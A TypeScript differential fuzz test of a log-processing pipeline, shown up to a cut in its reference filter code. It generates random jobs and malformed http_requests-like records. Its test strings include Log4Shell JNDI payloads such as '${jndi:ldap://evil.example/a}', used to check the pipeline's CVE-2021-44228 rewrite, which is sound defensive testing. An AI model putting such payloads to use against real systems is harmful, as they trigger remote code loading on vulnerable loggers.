// Differential fuzz test of the whole worker pipeline: processBatch with a job compiled by
// compileJob, against a small reference that builds the expected output from parsed records.
//
// Each stage has its own tests; this one checks how they meet on realistic, messy input: the
// scanner's slots feeding the filter, the encoders, the timestamp formatter, the CVE rewrite, the
// event-time range and chunking, all on one batch of records packed back to back. The reference
// knows nothing of byte offsets or fast paths. It implements the documented rules (the header
// comments of workers/encode.ts, encoders/*.ts, encoders/field-values.ts, timestamp.ts, scan.ts,
// filter.ts and pipeline-worker.ts) on values it reads with JSON.parse (numbers kept as their
// source text through the reviver's `context.source`, Node 24), and takes each output value's
// raw text from the generator, which knows what it wrote (that raw text is checked against the
// parse, so the two cannot drift apart).
//
// Every case is a random job (validated like a real one, through resolveOutputOptions and
// validateFilter) and a few random http_requests-like records; a few cases have many records and
// a small chunkBytes. The seed is fixed: a failure is reproducible and its message shows the job,
// the records, both outputs and, when one record alone reproduces it, that record shrunk to the
// members it needs. The test also counts what the cases exercised (each output type, timestamp
// format, CVE on and off, missing fields, broken records…), so it cannot pass vacuously.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { BatchResult, BatchTask } from '../../workers/batch-task.ts';
import { eventTimeField, getCatalog } from '../../src/datasets/catalog.ts';
import { createPrng, unit } from '../../src/generator/prng.ts';
import { validateFilter } from '../../src/jobs/validation/validate-filter.ts';
import { resolveOutputOptions } from '../../src/jobs/validation/validate-output-options.ts';
import type { FilterLeaf, FilterNode, Job, JobFilter, OutputOptions, Problem, TimestampFormat } from '../../src/jobs/types.ts';
import { compileJob } from '../../workers/compile-job.ts';
import { processBatch } from '../../workers/pipeline-worker.ts';
import { job } from './helpers/batch.ts';
import { compareDecimal, decimalOf, isObject, JsonNumber, jsonFuzz, parseExact } from './helpers/json-fuzz.ts';
import type { Json } from './helpers/json-fuzz.ts';

/** Fixed, so a failure reproduces; PIPELINE_FUZZ_SEED=<n> explores other cases. */
const SEED = Number(process.env.PIPELINE_FUZZ_SEED ?? 0x0b5e_55ed);
/** Batches of 1–6 records. */
const SMALL_CASES = 1000;
/** Batches of 60–400 records: two with values big enough to outgrow the writer's buffer, six with a small chunkBytes. */
const LARGE_CASES = 8;

const CATALOG = getCatalog('http_requests')!;
/** The reference's own knowledge of the dataset (checked against the catalog below). */
const TIMESTAMP_FIELDS: ReadonlySet<string> = new Set(['EdgeEndTimestamp', 'EdgeStartTimestamp']);
const EVENT_FIELD = 'EdgeStartTimestamp';

// ---------------------------------------------------------------------------------------------
// Random (mulberry32 from a fixed seed: the same cases on every run).

const rng = createPrng(SEED);
const random = (): number => unit(rng);
/**
 * Values in their many JSON spellings (helpers/json-fuzz.ts). Now and then a `$` is written
 * `\u0024`: `\u0024{` is not `${` in the raw text, so the CVE-2021-44228 rewrite must leave it.
 * The other options keep the mix this seed's cases were tuned on (the tallies below).
 */
const { chance, int, pick, unicodeEscape, encodeString, renderNumber } = jsonFuzz(random, {
  plainNumbers: 0.5, escapedStrings: 0.3, escapeRate: 0.3, dollarEscapes: 0.1,
});
function shuffle<T>(items: T[]): T[] {
  for (let i = items.length - 1; i > 0; i--) {
    const j = int(0, i);
    [items[i], items[j]] = [items[j]!, items[i]!];
  }
  return items;
}

// ---------------------------------------------------------------------------------------------
// Numbers (rendered in every JSON spelling) and strings (with random escapes, non-ASCII, lookups).

const INTEGERS = ['0', '1', '2', '200', '204', '301', '403', '404', '500', '503', '1024', '-1', '-404',
  '1506702504433000200', '9007199254740993', '12345678901234567890'];
const FRACTIONS = ['0.25', '1.5', '-1.5', '403.5', '404.5', '1e-7', '2.5e20', '0.1', '1e400', '-2.5e-400'];
const STATUSES = ['200', '301', '403', '404', '500', '503'];

const numberText = (pool: readonly string[]): string => renderNumber(decimalOf(pick(pool)));

// Bytes that are not UTF-8, written into texts as one private-use character each (U+E0F0 + i)
// and turned into these bytes when the batch is packed (utf8Of). A worker replaces them with
// U+FFFD in tracked values (workers/utf8.ts); the reference decodes them the WHATWG way.
const INVALID_UTF8 = [[0xff], [0x80], [0xc3], [0xe6, 0x97], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xf0, 0x9f, 0x98]];
const invalidUtf8 = (i: number): string => String.fromCharCode(0xe0f0 + i);
const INVALID_UTF8_MARK = /[\ue0f0-\ue0ff]/;

/** The bytes of a generated text, with each marker as its invalid UTF-8 bytes. */
function utf8Of(text: string): Buffer {
  if (!INVALID_UTF8_MARK.test(text)) return Buffer.from(text, 'utf8');
  return Buffer.concat(text.split(/([\ue0f0-\ue0ff])/).map((part) =>
    INVALID_UTF8_MARK.test(part) && part.length === 1 ? Buffer.from(INVALID_UTF8[part.charCodeAt(0) - 0xe0f0]!) : Buffer.from(part, 'utf8')));
}

/** A generated text as it reads once its invalid UTF-8 is replaced with U+FFFD (WHATWG TextDecoder). */
const replaceInvalidUtf8 = (text: string): string => (INVALID_UTF8_MARK.test(text) ? new TextDecoder().decode(utf8Of(text)) : text);
const hasInvalidUtf8 = (text: string): boolean => INVALID_UTF8_MARK.test(text) && replaceInvalidUtf8(text).includes('\ufffd');

const TEXTS = [
  '', 'GET', 'Zürich', 'São Paulo 😀', '日本語', 'say "hi"', 'back\\slash', 'tab\tx', 'line\nbreak',
  '${jndi:ldap://evil.example/a}', '${${lower:j}ndi:x}', '$${env:X}', 'cost $5 {ok}', '${', '$', '{',
  'x\ud800y', '\ud83d', '\u0000\u001f', 'a/b', 'Mozilla/5.0 (X11; Linux x86_64)', 'ü', '«»', '\u2028',
  `bad ${invalidUtf8(0)} byte`, `${invalidUtf8(1)}${invalidUtf8(2)}ü${invalidUtf8(3)}`, `$${invalidUtf8(4)}{x}`,
  `${invalidUtf8(5)}${invalidUtf8(6)}${invalidUtf8(7)}`, `日本${invalidUtf8(3)}\u0080`,
];

const ws = (): string => (chance(0.8) ? '' : pick([' ', '\n', '\t', '\r\n', '  ', ' \t ']));

// ---------------------------------------------------------------------------------------------
// Values of http_requests-like fields.

type Kind = 'ip' | 'host' | 'method' | 'path' | 'country' | 'text' | 'ray' | 'time' | 'int' | 'status' |
  'float' | 'tags' | 'ints' | 'bool' | 'object';

/** Fields the records carry and the jobs select, by the kind of value they usually hold. */
const POOL: Record<string, Kind> = {
  ClientIP: 'ip', ClientRequestHost: 'host', ClientRequestMethod: 'method', ClientRequestURI: 'path',
  ClientRequestPath: 'path', ClientRequestUserAgent: 'text', ClientCountry: 'country', ClientCity: 'text',
  EdgeStartTimestamp: 'time', EdgeEndTimestamp: 'time', EdgeResponseBytes: 'int', EdgeResponseStatus: 'status',
  EdgeResponseCompressionRatio: 'float', RayID: 'ray', BotScore: 'int', BotTags: 'tags', BotDetectionIDs: 'ints',
  CacheReserveUsed: 'bool', RequestHeaders: 'object', Cookies: 'object', SecurityActions: 'tags', ZoneName: 'host',
  WAFAttackScore: 'int',
};
const POOL_NAMES = Object.keys(POOL);
/** Keys records carry that no job here selects or filters on. */
const OTHER_KEYS = ['CacheCacheStatus', 'ClientASN', 'EdgeColoCode', 'OriginIP', 'WorkerScriptName', 'x-extra', '日本', '', 'k"q\\', `x${invalidUtf8(2)}`,
  // Near misses of selected names: same byte length with a different middle or last byte, one byte more or less.
  'RayIE', 'RayId', 'RaÿD', 'Rayé', 'ClientIp', 'EdgeStartTimestamP', 'EdgeStartTimestamps', 'ClientCountrY', 'ZoneNam', 'ZoneNamee'];
const NESTED_KEYS = ['user-agent', 'x-forwarded-for', 'cookie', '日本', 'k"q', '${x}', '', `k${invalidUtf8(0)}`];

/** Nesting deeper than the scanner's first container stack (64). */
let deepValues = 0;

function deepValue(): string {
  deepValues++;
  const depth = int(60, 150);
  let text = chance(0.5) ? '1' : '{}';
  for (let i = 0; i < depth; i++) text = chance(0.5) ? `[${text}]` : `{"k${i}":${text}}`;
  return text;
}

function anyValue(depth: number): string {
  if (depth === 0 && chance(0.01)) return deepValue();
  const r = random();
  if (r < 0.3) return encodeString(pick(TEXTS));
  if (r < 0.55) return numberText(chance(0.7) ? INTEGERS : FRACTIONS);
  if (r < 0.63) return chance(0.5) ? 'true' : 'false';
  if (r < 0.7) return 'null';
  if (r < 0.85 || depth >= 2) {
    const elements = Array.from({ length: depth >= 2 ? int(0, 2) : int(0, 4) }, () => ws() + (depth >= 2 ? scalarValue() : anyValue(depth + 1)) + ws());
    return `[${elements.join(',')}]`;
  }
  return objectValue(depth + 1);
}

function scalarValue(): string {
  const r = random();
  if (r < 0.45) return encodeString(pick(TEXTS));
  if (r < 0.85) return numberText(INTEGERS);
  return pick(['true', 'false', 'null']);
}

function objectValue(depth: number): string {
  const members = Array.from({ length: int(0, 3) }, () =>
    `${ws()}${encodeString(pick(NESTED_KEYS))}${ws()}:${ws()}${chance(0.6) ? encodeString(pick(TEXTS)) : anyValue(depth)}${ws()}`);
  return `{${members.join(',')}}`;
}

/** Per case, so records of one batch share seconds (the rfc3339 formatter caches the last one). */
let caseSecond = 1_700_000_000;

function unixNanoText(): string {
  const second = chance(0.7) ? caseSecond + int(-2, 2) : int(1_500_000_000, 1_900_000_000);
  return (BigInt(second) * 1_000_000_000n + BigInt(int(0, 999_999_999))).toString();
}

const pad = (n: number, width: number): string => String(n).padStart(width, '0');

/** An RFC 3339 text for a random instant near the case's second (or anywhere in 1900–2100). */
function rfc3339Text(): string {
  const utc = chance(0.7) ? caseSecond + int(-2, 2) : int(-2_208_988_800, 4_102_444_800);
  const offsetMinutes = chance(0.6) ? 0 : pick([60, -300, 330, 840, -720, 45]);
  const local = utc + offsetMinutes * 60;
  const days = Math.floor(local / 86_400);
  const daySecond = local - days * 86_400;
  const [y, m, d] = civilFromDays(days);
  const fracDigits = chance(0.5) ? 0 : int(1, 12);
  const frac = fracDigits === 0 ? '' : `.${Array.from({ length: fracDigits }, () => int(0, 9)).join('')}`;
  const zone = offsetMinutes === 0 && chance(0.8)
    ? pick(['Z', 'Z', 'z'])
    : `${offsetMinutes < 0 ? '-' : '+'}${pad(Math.floor(Math.abs(offsetMinutes) / 60), 2)}:${pad(Math.abs(offsetMinutes) % 60, 2)}`;
  return `${pad(y, 4)}-${pad(m, 2)}-${pad(d, 2)}${pick(['T', 'T', 't', ' '])}` +
    `${pad(Math.floor(daySecond / 3600), 2)}:${pad(Math.floor(daySecond / 60) % 60, 2)}:${pad(daySecond % 60, 2)}${frac}${zone}`;
}

/** Raw JSON texts at the edges of what timestamp.ts reads. */
const EDGE_TIMESTAMPS = [
  '0', '5', '-1', '999999999', '1000000000', '-1000000001', '1234567890123456789012345',
  '"0050-06-15T12:00:00Z"', '"1969-12-31T23:59:59.999999999Z"', '"9999-12-31T23:59:59Z"',
  '"9999-12-31T23:59:59-01:00"', '"0000-01-01T00:00:00+01:00"', '"0000-01-01T00:00:00Z"',
  '"2017-09-29T16:28:24.4330002001234Z"', '"2016-12-31T23:59:60Z"', '"2024-02-29T12:00:00+14:00"',
  '"1506702504433000200"', '"0001506702504433000200"', '"-5"', '"+5"', '"0"',
];
/** Strings that are not timestamps: passed through as they came. */
const NOT_TIMESTAMPS = [
  '2021-13-01T00:00:00Z', '2021-01-01T24:00:00Z', '2021-01-01T00:60:00Z', '2021-01-00T00:00:00Z', '2021-01-01',
  '2021-01-01T00:00:00', '2021-01-01T00:00:00+0100', '2021-1-01T00:00:00Z', 'yesterday', '', '${jndi:ldap://x}',
  'Zürich ${x}', '17000000000000000000x', ' 1700000000000000000', '2021-01-01T00:00:00.Z',
];

function timestampValue(): string {
  const r = random();
  if (r < 0.45) return unixNanoText();
  if (r < 0.65) return `"${rfc3339Text()}"`;
  if (r < 0.7) return `"${'0'.repeat(chance(0.3) ? int(1, 3) : 0)}${unixNanoText()}"`;
  if (r < 0.78) return pick(EDGE_TIMESTAMPS);
  if (r < 0.84) return encodeString(pick(NOT_TIMESTAMPS));
  if (r < 0.9) return pick([`${unixNanoText()}.0`, `${unixNanoText()}e0`, '1.7e18', '1.506702504433e18', '17E17', '-0', '0.0']);
  return anyValue(1);
}

const COUNTRIES = ['us', 'ch', 'de', '日本', 'US', ''];
const PATHS = ['/', '/api/v1/users', '/index.php', '/${jndi:ldap://x/a}', '/Zürich?q="x"', '/a\\b', '/api', ''];
const TAGS = ['api', 'bot', 'x', '日本', '${jndi:x}'];

/** Per case: whether text fields may be tens of kilobytes (the output then outgrows the writer's first buffer). */
let bigValues = false;

function bigText(): string {
  let text = '';
  while (text.length < 30_000) text += pick(TEXTS);
  return text;
}

function fieldValue(kind: Kind): string {
  if (chance(0.08)) return anyValue(0);
  switch (kind) {
    case 'ip': return encodeString(pick(['89.163.242.206', '10.0.0.1', '2001:db8::1', '${jndi:ldap://1.2.3.4/x}']));
    case 'host': return encodeString(pick(['example.com', '日本.example', '${jndi:dns://x}.example', 'a"b.example']));
    case 'method': return encodeString(pick(['GET', 'POST', 'get', 'PURGE']));
    case 'path': return encodeString(pick(PATHS) + (chance(0.3) ? pick(TEXTS) : ''));
    case 'country': return encodeString(pick(COUNTRIES));
    case 'text': return encodeString(bigValues && chance(0.5) ? bigText() : pick(TEXTS) + (chance(0.3) ? pick(TEXTS) : ''));
    case 'ray': return encodeString(Array.from({ length: 16 }, () => '0123456789abcdef'[int(0, 15)]).join(''));
    case 'time': return timestampValue();
    case 'int': return numberText(INTEGERS);
    case 'status': return chance(0.9) ? numberText(STATUSES) : pick(['"404"', 'null', 'true', '[404]', '{"s":404}']);
    case 'float': return numberText(FRACTIONS);
    case 'tags': return `[${Array.from({ length: int(0, 3) }, () => `${ws()}${encodeString(pick(TAGS))}${ws()}`).join(',')}]`;
    case 'ints': return `[${Array.from({ length: int(0, 3) }, () => `${ws()}${numberText(INTEGERS)}${ws()}`).join(',')}]`;
    case 'bool': return chance(0.5) ? 'true' : 'false';
    case 'object': return objectValue(0);
  }
}

// ---------------------------------------------------------------------------------------------
// Records: members in random order, missing fields, duplicates, escaped keys, random
// whitespace, and now and then a broken record.

interface Member {
  /** The decoded key, or null for a key that can match no field (itself broken). */
  key: string | null;
  keyText: string;
  valueText: string;
  /** What the reference's JSON.parse reads instead, for a member the scanner may accept unchecked. */
  parseKeyText: string;
  parseValueText: string;
  spaces: [string, string, string, string];
}

interface GenRecord {
  text: string;
  /** Whitespace around the object. */
  lead: string;
  trail: string;
  /** The JSON the reference parses; null when the record is broken in its structure. */
  parseText: string | null;
  members: Member[];
  /** A member with invalid string content (a raw control character, a bad escape), if any. */
  unchecked: Member | null;
  structural: string | null;
  duplicated: boolean;
  escapedKey: boolean;
}

/** String values the scanner checks only when their field is tracked: invalid JSON strings. */
const UNCHECKED_VALUES = ['"a\tb"', '"line\nbreak"', '"\u0001"', '"bad \\x escape"', '"\\u12G4"', '["ok","a\tb"]',
  '{"k":"\\q"}', '"\\u00"', '[{"k":["\u001f"]}]'];
/** Keys that are not valid JSON strings (never checked; they match no field). */
const UNCHECKED_KEYS = ['"bad\tkey"', '"Ray\\qID"', '"\\uZZZZ"', '"\u0000"'];
/** Values broken at any depth (structure, number grammar, literals): always invalid. */
const BROKEN_VALUES = ['tru', 'nul', 'falsy', '01', '-01', '1.', '.5', '-', '+1', '1e', '1e+', 'NaN', 'Infinity', "'x'",
  '[1,]', '{"a":1,}', '[1', '{"a"}', '{"a":}', '"unterminated', '[1 2]', '{"a" 1}', '{1:2}', '[}', '"a"b',
  `${'['.repeat(100)}${']'.repeat(99)}`, `${'{"a":'.repeat(70)}1${'}'.repeat(71)}`, '[1]]', '\u00a0[]'];

/** A record with no structural break, from its members (as the batch holds it, or as the reference parses it). */
function renderRecord(members: readonly Member[], lead: string, trail: string, parse: boolean): string {
  return `${lead}{${members.map((m) => renderMember(m, parse)).join(',')}}${trail}`;
}

function member(key: string, valueText: string): Member {
  const keyText = JSON.stringify(key); // escaped now and then by generateRecord
  return { key, keyText, valueText, parseKeyText: keyText, parseValueText: valueText, spaces: [ws(), ws(), ws(), ws()] };
}

function renderMember(m: Member, parse: boolean, colon = ':'): string {
  const [a, b, c, d] = m.spaces;
  return `${a}${parse ? m.parseKeyText : m.keyText}${b}${colon}${c}${parse ? m.parseValueText : m.valueText}${d}`;
}

/** `key` with one character written as a \u escape (the scanner decodes such keys before matching). */
function escapeOneChar(key: string): string {
  const i = int(0, key.length - 1);
  return `"${key.slice(0, i)}${unicodeEscape(key[i]!)}${key.slice(i + 1)}"`;
}

function generateRecord(presence: number): GenRecord {
  const members: Member[] = [];
  for (const name of POOL_NAMES) if (chance(presence)) members.push(member(name, fieldValue(POOL[name]!)));
  for (let n = int(0, 3); n > 0; n--) members.push(member(pick(OTHER_KEYS), anyValue(0)));
  shuffle(members);

  let duplicated = false;
  if (members.length > 0 && chance(0.12)) {
    const original = pick(members);
    const copy = member(original.key!, POOL[original.key!] === undefined ? anyValue(0) : fieldValue(POOL[original.key!]!));
    members.splice(int(0, members.length), 0, copy);
    duplicated = true;
  }
  let escapedKey = false;
  const poolMembers = members.filter((m) => m.key !== null && POOL[m.key] !== undefined);
  if (poolMembers.length > 0 && chance(0.15)) {
    const target = pick(poolMembers);
    target.keyText = chance(0.7) ? escapeOneChar(target.key!) : encodeString(target.key!);
    escapedKey = target.keyText !== JSON.stringify(target.key);
  }
  for (const m of members) m.parseKeyText = m.keyText;

  let unchecked: Member | null = null;
  if (chance(0.08)) {
    if (chance(0.3)) {
      unchecked = { ...member('', anyValue(0)), key: null, keyText: pick(UNCHECKED_KEYS), parseKeyText: `"unchecked key ${int(0, 1e9)}"` };
    } else {
      // Any key, even one the record has: the rule (checked only when tracked) is the same for duplicates.
      const key = chance(0.6) ? pick(POOL_NAMES) : pick([...OTHER_KEYS, EVENT_FIELD]);
      unchecked = { ...member(key, pick(UNCHECKED_VALUES)), parseValueText: 'null' };
    }
    members.splice(int(0, members.length), 0, unchecked);
  }

  // A structural break: the scanner must reject the record whatever the job tracks.
  let structural: string | null = null;
  let colonless = -1;
  let body: string | null = null;
  if (chance(0.07)) {
    structural = pick(['truncate', 'trailing', 'leading', 'no-object', 'close-bracket', 'broken-value', 'no-comma',
      'no-colon', 'trailing-comma', 'double-comma', 'bad-space']);
    if (members.length === 0 && ['broken-value', 'no-comma', 'no-colon', 'trailing-comma', 'double-comma', 'bad-space'].includes(structural)) structural = 'truncate';
    if (members.length < 2 && ['no-comma', 'double-comma'].includes(structural)) structural = 'trailing-comma';
    const at = int(0, Math.max(0, members.length - 2));
    const parts = members.map((m) => renderMember(m, false));
    switch (structural) {
      case 'broken-value': {
        const m = pick(members);
        m.valueText = pick(BROKEN_VALUES);
        break;
      }
      case 'no-colon': colonless = int(0, members.length - 1); break;
      case 'bad-space': pick(members).spaces[int(0, 3)] = pick(['\f', '\v', '\u00a0', '\u2028', '\ufeff', '\u3000']); break;
      case 'no-comma': body = `${parts.slice(0, at + 1).join(',')}${pick(['', ' '])}${parts.slice(at + 1).join(',')}`; break;
      case 'double-comma': body = `${parts.slice(0, at + 1).join(',')},,${parts.slice(at + 1).join(',')}`; break;
      case 'trailing-comma': body = `${parts.join(',')},`; break;
    }
  }
  const lead = chance(0.1) ? pick([' ', '\n', '\t', '\r\n']) : '';
  const trail = chance(0.1) ? pick([' ', '\n', '\t', '\r\n']) : '';
  const inner = body ?? members.map((m, i) => renderMember(m, false, i === colonless ? '' : ':')).join(',');
  let text = structural === null ? renderRecord(members, lead, trail, false) : `${lead}{${inner}}${trail}`;
  switch (structural) {
    case 'truncate': {
      let cut = int(0, text.lastIndexOf('}') - 1);
      if (cut > 0 && /[\ud800-\udbff]/.test(text[cut - 1]!)) cut--;
      text = text.slice(0, cut);
      break;
    }
    case 'trailing': text += pick(['x', ',', '}', '{}', '"', '0', ']']); break;
    case 'leading': text = pick(['x', ',', '[', ']', '"', '0', '\ufeff', '\f', '\u00a0']) + text; break;
    case 'no-object': text = pick(['', ' ', '\n', '[1,2]', '"text"', '42', 'null', 'true', '[]', '[{}]', '{']); break;
    case 'close-bracket': {
      const i = text.lastIndexOf('}');
      text = `${text.slice(0, i)}]${text.slice(i + 1)}`;
      break;
    }
  }
  const parseText = structural === null ? renderRecord(members, lead, trail, true) : null;
  return { text, lead, trail, parseText, members, unchecked, structural, duplicated, escapedKey };
}

// ---------------------------------------------------------------------------------------------
// Jobs: random output_options and an optional simple filter, validated like a real job.

type TemplatePart = { literal: string } | { field: string };

interface GenJob {
  job: Job;
  options: OutputOptions;
  /** The template as the generator built it (the reference does not parse templates). */
  template: TemplatePart[] | null;
}

const FIELD_DELIMITERS = [',', '\t', '|', ', ', '¦', '', '${d}'];
const RECORD_PREFIXES = ['', '{', '[', '«{', '${p}', '\n'];
const RECORD_SUFFIXES = ['', '}\n', '\n', '}', '»\r\n', '}\u2028'];
const RECORD_DELIMITERS = ['', ',', '\n', '|', ',\n', '😀'];
const BATCH_PREFIXES = ['', '[', '<batch>\n', '${jndi:b}', '日本'];
const BATCH_SUFFIXES = ['', ']', '\n</batch>', '\n', '»'];
const TEMPLATE_LITERALS = ['', ' ', ',', '{"a":', '}', '"', '\\', '\t', '\n', '日本 ', 'ü', '${lit}', '|', '}}', '[', ']', ':', '{', '$'];

function templateParts(): TemplatePart[] {
  const parts: TemplatePart[] = [];
  const count = int(1, 5);
  let previous = '';
  const literal = (beforeField: boolean): string => {
    let text = pick(TEMPLATE_LITERALS) + (chance(0.3) ? pick(TEMPLATE_LITERALS) : '');
    // `{{` or a `{` just before a placeholder would make a different (or invalid) template.
    if (text.includes('{{') || (beforeField && text.endsWith('{'))) text = '';
    return text;
  };
  for (let i = 0; i < count; i++) {
    parts.push({ literal: literal(true) });
    const field = chance(0.15) && previous !== '' ? previous : pick(POOL_NAMES);
    parts.push({ field });
    previous = field;
  }
  parts.push({ literal: literal(false) });
  return parts;
}

/**
 * The template's text: fields with varied spacing, some after a comment; literals as text, or
 * as a Go string constant (JSON's escapes are Go's) or raw string that prints the same text.
 */
function templateText(parts: readonly TemplatePart[]): string {
  return parts.map((p) => {
    if ('field' in p) return `${chance(0.1) ? '{{/* {{ c }} */}}' : ''}{{${pick(['', ' ', '  ', '\t'])}.${p.field}${pick(['', ' ', '\t'])}}}`;
    if (chance(0.15)) return `{{ ${JSON.stringify(p.literal)} }}`;
    if (chance(0.1) && !p.literal.includes('`')) return `{{\`${p.literal}\`}}`;
    return p.literal;
  }).join('');
}

function filterLeaf(): FilterLeaf {
  switch (int(0, 7)) {
    case 0: return { key: 'EdgeResponseStatus', operator: pick(['geq', 'lt', 'gt', 'leq'] as const), value: pick([200, 400, 404, 500, 403.5]) };
    case 1: return { key: 'EdgeResponseStatus', operator: pick(['eq', '!eq'] as const), value: pick([404, 200, null]) };
    case 2: return { key: 'EdgeResponseStatus', operator: pick(['in', '!in'] as const), value: [200, 404] };
    case 3: return { key: 'ClientCountry', operator: pick(['eq', '!eq'] as const), value: pick(['us', 'ch', '日本']) };
    case 4: return { key: 'ClientCountry', operator: pick(['in', '!in'] as const), value: ['us', 'de', '日本'] };
    case 5: return { key: 'ClientRequestPath', operator: pick(['startsWith', '!startsWith', 'endsWith', 'contains', '!contains'] as const), value: pick(['/api', '.php', '${', 'ü', '']) };
    case 6: return { key: 'BotTags', operator: pick(['contains', '!contains'] as const), value: pick(['api', 'bot']) };
    default: return { key: 'EdgeStartTimestamp', operator: pick(['geq', 'lt'] as const), value: 1_700_000_000_500_000_000 };
  }
}

let nextJobId = 1;

/** `big`: the job writes the text fields (which then hold big values), with no template and no filter. */
function generateJob(big: boolean): GenJob {
  const input: Record<string, unknown> = {};
  const outputType = pick(['ndjson', 'csv'] as const);
  if (outputType === 'csv' || chance(0.5)) input.output_type = outputType;
  const textFields = POOL_NAMES.filter((name) => POOL[name] === 'text');
  input.field_names = big
    ? shuffle([...textFields, ...shuffle(POOL_NAMES.filter((name) => !textFields.includes(name))).slice(0, int(0, 10))])
    : shuffle([...POOL_NAMES]).slice(0, int(1, 12));
  const format = pick(['unixnano', 'unix', 'rfc3339'] as const);
  if (format !== 'unixnano' || chance(0.5)) input.timestamp_format = format;
  if (chance(0.5)) input['CVE-2021-44228'] = true;
  else if (chance(0.3)) input['CVE-2021-44228'] = false;
  let template: TemplatePart[] | null = null;
  if (!big && chance(0.2)) {
    template = templateParts();
    input.record_template = templateText(template);
  }
  if (chance(0.3)) input.field_delimiter = pick(FIELD_DELIMITERS);
  if (chance(0.25)) input.record_prefix = pick(RECORD_PREFIXES);
  if (chance(0.25)) input.record_suffix = pick(RECORD_SUFFIXES);
  if (chance(0.3)) input.record_delimiter = pick(RECORD_DELIMITERS);
  if (chance(0.25)) input.batch_prefix = pick(BATCH_PREFIXES);
  if (chance(0.25)) input.batch_suffix = pick(BATCH_SUFFIXES);

  const problems: Problem[] = [];
  const options = resolveOutputOptions(input, CATALOG, 'output_options', problems);
  assert.ok(options !== undefined && problems.length === 0, `generator made invalid output_options ${JSON.stringify(input)}: ${JSON.stringify(problems)}`);
  let filter: JobFilter | null = null;
  if (!big && chance(0.3)) {
    const where: FilterNode = chance(0.2) ? { and: [filterLeaf(), filterLeaf()] } : filterLeaf();
    const clean = validateFilter({ where }, CATALOG, 'filter', problems);
    assert.ok(clean && problems.length === 0, `generator made an invalid filter ${JSON.stringify(where)}: ${JSON.stringify(problems)}`);
    filter = clean;
  }
  return { job: job(options, { filter, id: nextJobId++ }), options, template };
}

// ---------------------------------------------------------------------------------------------
// The reference: parsed values, documented rules, plain string building.

function sameJson(a: Json, b: Json): boolean {
  if (a instanceof JsonNumber || b instanceof JsonNumber) return a instanceof JsonNumber && b instanceof JsonNumber && a.text === b.text;
  if (Array.isArray(a) || Array.isArray(b)) return Array.isArray(a) && Array.isArray(b) && a.length === b.length && a.every((x, i) => sameJson(x, b[i]!));
  if (a !== null && b !== null && typeof a === 'object' && typeof b === 'object') {
    const ka = Object.keys(a);
    return ka.length === Object.keys(b).length && ka.every((k) => Object.hasOwn(b, k) && sameJson(a[k]!, b[k]!));
  }
  return a === b;
}

function isJsonObject(text: string): boolean {
  try {
    return isObject(JSON.parse(text) as Json);
  } catch {
    return false;
  }
}

// Calendar arithmetic (proleptic Gregorian; days since 1970-01-01), H. Hinnant's algorithms.
function daysFromCivil(year: number, month: number, day: number): number {
  const y = month <= 2 ? year - 1 : year;
  const era = Math.floor(y / 400);
  const yoe = y - era * 400;
  const doy = Math.floor((153 * ((month + 9) % 12) + 2) / 5) + day - 1;
  const doe = yoe * 365 + Math.floor(yoe / 4) - Math.floor(yoe / 100) + doy;
  return era * 146_097 + doe - 719_468;
}

function civilFromDays(days: number): [number, number, number] {
  const z = days + 719_468;
  const era = Math.floor(z / 146_097);
  const doe = z - era * 146_097;
  const yoe = Math.floor((doe - Math.floor(doe / 1460) + Math.floor(doe / 36_524) - Math.floor(doe / 146_096)) / 365);
  const doy = doe - (365 * yoe + Math.floor(yoe / 4) - Math.floor(yoe / 100));
  const mp = Math.floor((5 * doy + 2) / 153);
  const day = doy - Math.floor((153 * mp + 2) / 5) + 1;
  const month = mp < 10 ? mp + 3 : mp - 9;
  return [yoe + era * 400 + (month <= 2 ? 1 : 0), month, day];
}

const daysInMonth = (y: number, m: number): number => daysFromCivil(m === 12 ? y + 1 : y, m === 12 ? 1 : m + 1, 1) - daysFromCivil(y, m, 1);
const floorDiv = (a: bigint, b: bigint): bigint => (a % b !== 0n && (a < 0n) !== (b < 0n) ? a / b - 1n : a / b);
const NS = 1_000_000_000n;

/** Nanoseconds of an RFC 3339 text (seconds 60 allowed, fraction digits past 9 ignored), or null. */
function nsOfRfc3339(text: string): bigint | null {
  const m = /^(\d{4})-(\d{2})-(\d{2})[Tt ](\d{2}):(\d{2}):(\d{2})(?:\.(\d+))?(?:[Zz]|([+-])(\d{2}):(\d{2}))$/.exec(text);
  if (m === null) return null;
  const [y, mo, d, h, mi, s] = m.slice(1, 7).map(Number) as [number, number, number, number, number, number];
  if (mo < 1 || mo > 12 || d < 1 || d > daysInMonth(y, mo) || h > 23 || mi > 59 || s > 60) return null;
  const offset = m[8] === undefined ? 0 : (m[8] === '-' ? -1 : 1) * (Number(m[9]) * 60 + Number(m[10]));
  const seconds = daysFromCivil(y, mo, d) * 86_400 + h * 3600 + mi * 60 + s - offset * 60;
  return BigInt(seconds) * NS + BigInt((m[7] ?? '').slice(0, 9).padEnd(9, '0'));
}

/** A timestamp value's nanoseconds: a JSON integer, or a string holding an integer or RFC 3339 time. */
function timestampNs(raw: string): bigint | null {
  if (/^-?\d+$/.test(raw)) return BigInt(raw);
  if (raw.length < 2 || !raw.startsWith('"') || !raw.endsWith('"')) return null;
  const inner = raw.slice(1, -1);
  return /^-?\d+$/.test(inner) ? BigInt(inner) : nsOfRfc3339(inner);
}

/** timestamp.ts's rules: unixnano → integer ns (an integer as written), unix → floored seconds, rfc3339 → "…Z"; else as is. */
function formatTimestamp(raw: string, format: TimestampFormat): string {
  const ns = timestampNs(raw);
  if (ns === null) return raw;
  if (format === 'unixnano') return /^-?\d+$/.test(raw) ? raw : ns.toString();
  const seconds = floorDiv(ns, NS);
  if (format === 'unix') return seconds.toString();
  const days = floorDiv(seconds, 86_400n);
  if (days < -800_000n || days > 3_000_000n) return raw; // far outside years 0–9999
  const [y, m, d] = civilFromDays(Number(days));
  if (y < 0 || y > 9999) return raw;
  const s = Number(seconds - days * 86_400n);
  return `"${pad(y, 4)}-${pad(m, 2)}-${pad(d, 2)}T${pad(Math.floor(s / 3600), 2)}:${pad(Math.floor(s / 60) % 60, 2)}:${pad(s % 60, 2)}Z"`;
}

function eventNs(raw: string): bigint | null {
  const ns = timestampNs(raw);
  return ns !== null && ns >= 0n ? ns : null;
}

// The filter (filter.ts header), for the few leaf forms generated here.
type Verdict = 'keep' | 'reject' | 'wrong_type';

function equals(v: Json, x: unknown): boolean {
  if (x === null) return v === null;
